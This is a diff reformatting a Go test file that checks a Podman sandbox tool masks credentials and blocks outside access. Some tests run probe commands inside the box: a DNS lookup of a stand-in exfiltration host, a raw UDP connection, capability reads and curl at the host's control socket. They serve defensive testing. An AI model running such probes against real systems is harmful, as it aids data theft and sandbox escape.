@@ -32,7 +32,9 @@ func TestCurlInABoxGetsTheCredentialAndNeverSeesIt(t *testing.T) {
 	if r.code != 7 {
 		t.Fatalf("exit %d\n%s%s", r.code, r.out, r.err)
 	}
-	contains(t, "the output", r.out, "octo-stand-in", "x-echo-authorization: Bearer "+strings.Repeat("*", len(secret)), `"Authorization":"Bearer `+strings.Repeat("*", len(secret)), "cut at 20: Bearer "+strings.Repeat("*", len(secret))+" end",
+	contains(t, "the output", r.out, "octo-stand-in", "x-echo-authorization: Bearer "+strings.Repeat("*", len(secret)),
+		`"Authorization":"Bearer `+strings.Repeat("*", len(secret)),
+		"cut at 20: Bearer "+strings.Repeat("*", len(secret))+" end",
 		`"reason":"operation_not_matched"`, `"reason":"host_not_allowed"`, `"reason":"owner_only"`, `"operation":"user.get"`, "GH_TOKEN=placeholder")
 	if strings.Contains(r.out+r.err, secret[:16]) {
 		t.Error("the secret is in the output")
@@ -73,7 +75,8 @@ func TestABoxHasNoOtherWayOut(t *testing.T) {
 		getent hosts secret.exfil.example.com
 		grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs|Seccomp:' /proc/self/status
 		(exec 3<>/dev/udp/192.0.2.1/53) 2>&1; ls -d /run/aileron /aileron 2>&1; mount | grep -c aileron`)
-	contains(t, "the output", r.out, "v6 ", "198.18.", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2",
+	contains(t, "the output", r.out, "v6 ", "198.18.", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000",
+		"NoNewPrivs:\t1", "Seccomp:\t2",
 		"cannot access '/run/aileron'", "cannot access '/aileron'")
 	if strings.Contains(r.out, "v6 0") {
 		t.Error("IPv6 leads somewhere")
@@ -100,7 +103,8 @@ func TestATerminalIsTheBoxs(t *testing.T) {
 	t.Parallel()
 	needPodman(t)
 	u := newUser(t, standin.Script{})
-	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c", `stty size; read line; echo "got $line"; trap 'stty size; exit 3' WINCH; echo waiting; while :; do sleep 0.1; done`)
+	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c",
+		`stty size; read line; echo "got $line"; trap 'stty size; exit 3' WINCH; echo waiting; while :; do sleep 0.1; done`)
 	tty, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 41, Cols: 121})
 	if err != nil {
 		t.Fatal(err)
@@ -149,7 +153,8 @@ func TestASignalEndsTheBoxAndLeavesNothing(t *testing.T) {
 	t.Parallel()
 	needPodman(t)
 	u := newUser(t, standin.Script{})
-	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c", `trap 'exit 42' TERM; echo up > up; while :; do sleep 0.1; done`)
+	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c",
+		`trap 'exit 42' TERM; echo up > up; while :; do sleep 0.1; done`)
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
@@ -171,7 +176,8 @@ func TestASecondInterruptEndsWhatIgnoresTheFirst(t *testing.T) {
 	t.Parallel()
 	needPodman(t)
 	u := newUser(t, standin.Script{})
-	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c", `trap 'echo no >> ignored' INT; echo up > up; while :; do sleep 0.1; done`)
+	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c",
+		`trap 'echo no >> ignored' INT; echo up > up; while :; do sleep 0.1; done`)
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
@@ -192,7 +198,8 @@ func TestAKilledSessionKeepsItsIntentAndIsSwept(t *testing.T) {
 	t.Parallel()
 	u := newUser(t, standin.Script{}, "echo")
 	needPodman(t)
-	cmd := u.command(append(append([]string{"sandbox", "run", "--sandbox=podman", "--dir", u.project}, u.reach()...), "--", "curl", "-sS", "https://api.echo.example/stall")...)
+	cmd := u.command(append(append([]string{"sandbox", "run", "--sandbox=podman", "--dir", u.project}, u.reach()...), "--",
+		"curl", "-sS", "https://api.echo.example/stall")...)
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
@@ -280,7 +287,8 @@ func TestAProjectThatIsAileronsHomeIsRefused(t *testing.T) {
 			t.Errorf("--dir %s: exit %d, %q; want a refusal with its mend", dir, r.code, r.err)
 		}
 	}
-	if r := u.run("sandbox", "run", "--sandbox=podman", "--dir", "/", "--", "true"); r.code != 1 || !strings.Contains(r.err, "must not have") {
+	if r := u.run("sandbox", "run", "--sandbox=podman", "--dir", "/", "--", "true"); r.code != 1 ||
+		!strings.Contains(r.err, "must not have") {
 		t.Errorf("--dir /: exit %d, %q; want a refusal", r.code, r.err)
 	}
 }
@@ -294,7 +302,8 @@ func TestAileronsHomeIsEmptyInABoxOfAProjectAroundIt(t *testing.T) {
 			u := newUser(t, standin.Script{}, "echo")
 			u.engine, u.project = engine, filepath.Dir(u.home)
 			r := u.box(`ls; echo "in it:" h/*; find h; curl -sS --max-time 5 --unix-socket h/sessions/$AILERON_SESSION_ID/control.sock http://x/v1/session; touch h/x; rmdir h; mv h g; umount h; curl -sS https://api.echo.example/echo; echo mine > mine`)
-			if r.code != 0 || strings.Contains(r.out, "vault") || strings.Contains(r.out, "audit.db") || !strings.Contains(r.out, "in it: h/*\nh\n") {
+			if r.code != 0 || strings.Contains(r.out, "vault") || strings.Contains(r.out, "audit.db") ||
+				!strings.Contains(r.out, "in it: h/*\nh\n") {
 				t.Errorf("exit %d\n%s%s", r.code, r.out, r.err)
 			}
 			contains(t, "the answer", r.out, "Bearer ****")
@@ -315,7 +324,8 @@ func TestABoxStartsUnderAnyUmask(t *testing.T) {
 	if err := os.Chmod(u.project, 0o777); err != nil { // so that the box is another user
 		t.Fatal(err)
 	}
-	args := append(append([]string{"sandbox", "run", "--sandbox=podman", "--read-only", "--dir", u.project}, u.reach()...), "--", "curl", "-sS", "https://api.echo.example/echo")
+	args := append(append([]string{"sandbox", "run", "--sandbox=podman", "--read-only", "--dir", u.project}, u.reach()...),
+		"--", "curl", "-sS", "https://api.echo.example/echo")
 	cmd := u.command(args...)
 	cmd.Path, cmd.Args = "/bin/sh", append([]string{"sh", "-c", `umask 077; exec "$0" "$@"`, binary}, args...)
 	r := finish(t, cmd)
